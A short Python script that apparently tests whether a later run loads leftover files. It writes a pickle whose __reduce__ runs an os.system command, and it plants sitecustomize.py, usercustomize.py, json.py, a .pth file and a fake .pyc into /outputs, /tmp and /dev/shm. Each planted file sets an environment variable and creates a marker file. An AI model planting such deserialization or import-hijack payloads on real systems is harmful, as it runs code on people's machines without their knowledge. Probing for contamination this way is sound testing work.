"""What a next run might load, if it saw it."""

import os
import pickle


class Poison:
    def __reduce__(self):
        return (os.system, ("touch /tmp/poisoned",))


for folder in ("/outputs", "/tmp", "/dev/shm"):
    os.makedirs(f"{folder}/__pycache__", exist_ok=True)
    with open(f"{folder}/model.pkl", "wb") as file:
        pickle.dump(Poison(), file)
    for name in ("sitecustomize.py", "usercustomize.py", "causeway.py", "json.py", "evil.pth", "__pycache__/main.cpython-313.pyc"):
        with open(f"{folder}/{name}", "w") as file:
            file.write("import os; os.environ['POISONED'] = '1'; open('/tmp/poisoned', 'w').close()\n")
